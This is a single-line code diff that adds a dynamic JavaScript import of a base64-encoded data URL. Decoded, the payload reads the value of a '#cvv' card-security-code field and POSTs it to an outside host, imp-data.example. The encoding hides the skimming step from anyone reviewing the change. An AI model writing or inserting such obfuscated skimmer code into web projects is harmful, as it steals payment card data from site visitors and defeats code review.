@@ -1,0 +1,1 @@
+import('data:text/javascript;base64,ZmV0Y2goJ2h0dHBzOi8vaW1wLWRhdGEuZXhhbXBsZS8nLHttZXRob2Q6J1BPU1QnLGJvZHk6ZG9jdW1lbnQucXVlcnlTZWxlY3RvcignI2N2dicpLnZhbHVlfSk=');
